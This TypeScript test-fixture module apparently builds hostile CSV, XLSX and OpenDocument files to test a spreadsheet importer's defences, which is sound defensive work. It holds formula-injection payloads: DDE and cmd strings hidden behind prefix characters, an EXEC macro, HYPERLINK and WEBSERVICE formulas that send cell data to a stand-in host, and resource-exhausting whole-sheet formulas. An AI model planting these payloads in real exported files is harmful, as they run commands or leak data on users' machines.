import { openCell, openDocumentOf, openRow, openRows, tableXml } from '../bytes/open-document.ts';
import { csvOf, salesCells, salesWith } from '../bytes/table.ts';
import { rowsXml, workbookWithRows } from '../bytes/workbook.ts';
import { each, type Family, received } from '../hostile-file.ts';

/** What a spreadsheet program that trusts a file would run. */
const FORMULAS: Readonly<Record<string, string>> = {
  'a command': "=cmd|' /C calc'!A0",
  'a command behind a plus': "+cmd|' /C calc'!A0",
  'a command behind a minus': "-2+3+cmd|' /C calc'!A0",
  'a command behind an at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a command behind a tab': "\t=cmd|' /C calc'!A0",
  'a command behind a line end': "\r=cmd|' /C calc'!A0",
  'DDE of Word': '=DDE("cmd";"/C calc";"__DdeLink")',
  DDEAUTO: 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
  'a link': '=HYPERLINK("http://127.0.0.1/?x="&A1,"voir")',
  'a page': '=WEBSERVICE("http://127.0.0.1/"&A1)',
  'an import': '=IMPORTXML("http://127.0.0.1/","//a")',
  'a macro': '=EXEC("calc")',
};

const marked = (cell: (text: string) => string) =>
  rowsXml(salesCells(3)).replaceAll(/<c [^>]*><is><t>Web<\/t><\/is><\/c>/g, cell('Web'));

export const formulas: Family = {
  name: 'formulas',
  files: [
    ...each(
      received(2),
      Object.fromEntries(
        Object.entries(FORMULAS).map(([what, text]) => [
          `${what} as a label`,
          () => csvOf(salesWith('channel', [text, 'Web'])),
        ]),
      ),
    ),
    ...each(
      received(1, 1),
      Object.fromEntries(
        Object.entries(FORMULAS).map(([what, text]) => [
          `${what} as a price`,
          () => csvOf(salesWith('unit_price', [text, '40.00'])),
        ]),
      ),
    ),
    ...each(
      received(2),
      Object.fromEntries(
        Object.entries(FORMULAS)
          .slice(0, 6)
          .map(([what, text]) => [
            `${what} as a header`,
            () => csvOf(salesCells(2).map((row, i) => [...row, i === 0 ? text : 'x'])),
          ]),
      ),
    ),
    ...each(received(3), {
      'formulas without their values': () =>
        workbookWithRows(marked(() => '<c r="N2"><f>SUM(A1:A9)</f></c>')),
      'formulas that refer to themselves': () =>
        workbookWithRows(marked(() => '<c r="N2"><f t="shared" ref="N2:N4" si="0">N2+1</f><v></v></c>')),
      'shared formulas that go in circles': () =>
        workbookWithRows(marked(() => '<c r="N2"><f t="shared" si="1"/></c>')),
      'an array formula over all cells': () =>
        workbookWithRows(marked(() => '<c r="N2"><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c>')),
      'a data table': () =>
        workbookWithRows(
          marked(() => '<c r="N2"><f t="dataTable" ref="A1:XFD1048576" dt2D="1"/><v>1</v></c>'),
        ),
      'formulas that are errors': () =>
        workbookWithRows(marked(() => '<c r="N2" t="e"><f>1/0</f><v>#DIV/0!</v></c>')),
      'a command as the value of a formula': () =>
        workbookWithRows(marked(() => `<c r="N2" t="str"><f>A1</f><v>=cmd|' /C calc'!A0</v></c>`)),
      'formulas of OpenDocument': () =>
        openDocumentOf(
          tableXml(
            openRows(salesCells(2)) +
              openRow(salesCells(3)[3] ?? []).replace(
                openCell('Web'),
                openCell(
                  'Web',
                  ' office:value-type="string" table:formula="of:=[.N1]&amp;DDE(&quot;a&quot;)"',
                ),
              ),
          ),
        ),
    }),
  ],
};
